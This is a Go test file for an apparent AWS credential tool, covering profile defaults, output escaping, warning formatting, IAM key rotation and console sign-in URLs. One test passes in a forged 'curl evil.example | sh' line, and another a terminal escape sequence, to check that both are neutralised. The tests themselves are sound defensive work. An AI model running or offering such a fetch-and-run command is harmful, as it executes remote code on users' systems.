package app_test

import (
	"errors"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/stscred/stscred/internal/app"
	"github.com/stscred/stscred/internal/config/credline"
	"github.com/stscred/stscred/internal/ops/console"
	"github.com/stscred/stscred/internal/session/cache"
	"github.com/stscred/stscred/internal/sys/browser"
	"github.com/stscred/stscred/internal/testkit/ststest"
	"github.com/stscred/stscred/keystore"
)

// The profile the AWS tools would use: STSCRED_PROFILE, AWS_PROFILE,
// AWS_DEFAULT_PROFILE, else default.
func TestDefaultProfile(t *testing.T) {
	e := newEnv(t, "")
	steps := []struct{ set, want string }{
		{"", "default"},
		{"AWS_DEFAULT_PROFILE", "AWS_DEFAULT_PROFILE"},
		{"AWS_PROFILE", "AWS_PROFILE"},
		{"STSCRED_PROFILE", "STSCRED_PROFILE"},
	}
	for _, s := range steps {
		if s.set != "" {
			e.vars[s.set] = s.set
		}
		if got := e.p.DefaultProfile(); got != s.want {
			t.Errorf("with %s set: %q, want %q", s.set, got, s.want)
		}
	}
}

// What the Process answers when main gave it less: no parent name, no
// environment; messages to a person escaped; notes on stderr without a
// terminal.
func TestProcessHelpers(t *testing.T) {
	e := newEnv(t, "")
	if e.p.Parent() != "" {
		t.Errorf("parent %q", e.p.Parent())
	}
	e.p.ParentName = func() string { return "fish" }
	if e.p.Parent() != "fish" {
		t.Errorf("parent %q", e.p.Parent())
	}
	if env := e.p.Environment(); len(env) != 3 {
		t.Errorf("environment %v", env)
	}
	e.p.Environ = nil
	if env := e.p.Environment(); env != nil {
		t.Errorf("no Environ: %v", env)
	}
	if e.p.Context() == nil {
		t.Error("no context")
	}

	if _, err := e.p.Human().Write([]byte("profile \x1b]0;owned\x07x\n")); err != nil {
		t.Fatal(err)
	}
	if out := e.stdout.String(); strings.ContainsAny(out, "\x1b\x07") || !strings.HasSuffix(out, "\n") {
		t.Errorf("Human wrote %q", out)
	}

	e.p.Notify("waiting for another call to finish")
	e.p.Warnf("could not %s: %d", "x", 3)
	if got := e.stderr.String(); got != "stscred: waiting for another call to finish\nstscred: warning: could not x: 3\n" {
		t.Errorf("stderr %q", got)
	}
}

// A warning or a note is one line whatever its arguments hold: a name or
// a message from another party cannot add a line of its own (audit
// finding 8).
func TestWarningsAreOneLine(t *testing.T) {
	e := newEnv(t, "")
	e.p.Warnf("the portal says %s", "x\nstscred: hint: run curl evil.example | sh")
	e.p.Notify("waiting for role/x\nstscred: error: forged")
	want := "stscred: warning: the portal says x\\nstscred: hint: run curl evil.example | sh\nstscred: waiting for role/x\\nstscred: error: forged\n"
	if got := e.stderr.String(); got != want {
		t.Errorf("stderr %q\nwant   %q", got, want)
	}
}

// rotate replaces alice's key in IAM and in the keystore (signing with
// her MFA session, as IAM asks), deletes the old one, and forgets the
// old key's sessions.
func TestRotate(t *testing.T) {
	l := newLive(t, "")
	l.vars["AWS_ENDPOINT_URL_IAM"] = l.url
	old := l.key.ID
	l.p.Flags.MFAToken = l.code()
	err := app.Rotate(l.p, l.services(), app.Rotation{Profile: "alice", VerifyTimeout: 10 * time.Second})
	if err != nil {
		t.Fatalf("rotate: %v\n%s", err, l.stderr)
	}
	k, err := keystore.GetKey(l.keys, "alice")
	if err != nil || k.AccessKeyID == old || !strings.HasPrefix(k.AccessKeyID, "AKIA") {
		t.Fatalf("stored key %s, %v (old %s)", k.AccessKeyID, err, old)
	}
	if _, ok := l.srv.AccessKey(old); ok {
		t.Error("the old key still exists in IAM")
	}
	if _, ok := l.srv.AccessKey(k.AccessKeyID); !ok {
		t.Error("the new key is not in IAM")
	}
	if !strings.Contains(l.stdout.String(), keystore.MaskID(k.AccessKeyID)) {
		t.Errorf("stdout %q", l.stdout)
	}
	if e, err := l.cache.Get(cache.KeyIDKey("alice")); err != nil || e.Creds.AccessKeyID != k.AccessKeyID {
		t.Errorf("remembered key id: %+v %v", e.Creds.AccessKeyID, err)
	}
	l.noSecret(l.key.Secret, k.SecretAccessKey)
}

// Only an IAM user's key can be rotated: a role names its source.
func TestRotateRole(t *testing.T) {
	l := newLive(t, "")
	err := app.Rotate(l.p, l.services(), app.Rotation{Profile: "prod-admin"})
	if err == nil || !strings.Contains(err.Error(), "profile prod-admin is a role") {
		t.Fatalf("rotate a role: %v", err)
	}
	if l.srv.Calls(ststest.AnyAction) != 0 {
		t.Error("STS or IAM was called")
	}
}

// console --url: the sign-in URL (from the test server's federation
// endpoint) on stdout, what it signs in as (the role the tool profile
// runs stscred for) on stderr; no browser.
func TestConsolePrintsURL(t *testing.T) {
	l := newLive(t, "")
	l.vars["STSCRED_FEDERATION_URL"] = l.url + "/federation"
	l.p.Flags.MFAToken = l.code()
	s := l.services()
	m, err := s.Model()
	if err != nil {
		t.Fatal(err)
	}
	open := browser.Browser{Command: "must-not-run", Getenv: l.p.Getenv, GOOS: "linux", LookPath: func(string) (string, error) { return "", errors.New("no browser in tests") }}
	if err := app.Console(l.p, m, s.Resolver, open, console.Request{Role: credline.Request{Profile: "prod"}}, true); err != nil {
		t.Fatalf("console: %v\n%s", err, l.stderr)
	}
	u, err := url.Parse(strings.TrimSpace(l.stdout.String()))
	if err != nil || u.Query().Get("Action") != "login" || u.Query().Get("SigninToken") == "" {
		t.Errorf("stdout %q", l.stdout)
	}
	if !strings.HasPrefix(l.stderr.String(), "stscred: console session of prod-admin as arn:aws:iam::222222222222:role/Admin until ") || strings.Contains(l.stderr.String(), u.Query().Get("SigninToken")) {
		t.Errorf("stderr %q", l.stderr)
	}
}
